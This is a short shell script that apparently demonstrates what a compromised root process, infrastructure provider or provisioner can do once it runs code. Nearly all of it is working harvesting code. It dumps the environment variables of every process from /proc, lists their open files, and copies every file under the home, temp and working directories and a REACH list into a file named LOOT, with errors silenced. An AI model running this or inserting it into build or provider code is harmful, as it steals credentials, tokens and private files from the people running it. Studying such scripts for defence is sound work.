#!/bin/sh
# What a root, a provider or a provisioner does once it runs code: it copies all that it can reach into the file LOOT.
# REACH is a list of files and folders of the controller.
{
  echo "prowled as $(id -u)"
  env
  for process in self $(ls /proc | grep '^[0-9]'); do
    cat "/proc/$process/environ" "/proc/$process/cmdline"
    ls -l "/proc/$process/fd" "/proc/$process/cwd"
  done
  find ${HOME:+"$HOME"} ${TMPDIR:+"$TMPDIR"} "$PWD" REACH -type f -exec cat {} +
  echo "prowled to the end"
} >> "LOOT" 2>/dev/null < /dev/null
